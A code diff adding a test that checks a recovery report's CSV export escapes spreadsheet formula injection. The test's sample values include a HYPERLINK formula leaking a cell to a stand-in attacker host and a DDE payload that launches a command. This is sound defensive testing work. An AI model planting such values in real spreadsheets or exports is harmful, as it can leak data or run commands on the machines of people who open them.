@@ -70,6 +70,26 @@ def test_the_report_exports_csv(history):
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
     assert sorted(r["vm"] for r in rows) == ["a", "b", "c", "d"]
     assert next(r for r in rows if r["vm"] == "b")["rto_running_s"] == "20.0"
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_csv_cells_from_the_platform_and_users_are_inert_and_utf8(history):
+    """A VM name from the platform and an error text that read as formulas stay text."""
+    Recovery.objects.filter(vm_id="d").update(
+        vm_name='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        error_message="@SUM(1+1) → -2+3",
+        connection_name="+cmd|' /C calc'!A0",
+    )
+    response = history.client_for(history.manager).get(reverse("reports"), {"export": "csv"})
+    row = next(
+        r
+        for r in csv.DictReader(io.StringIO(response.content.decode("utf-8")))
+        if r["id"] and r["failed_step"]
+    )
+    assert row["vm"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert row["error"] == "'@SUM(1+1) → -2+3"
+    assert row["connection"] == "'+cmd|' /C calc'!A0"
+    assert int(row["id"]) > 0  # numbers stay numbers
 
 
 @pytest.mark.parametrize("persona", ["viewer", "operator"])
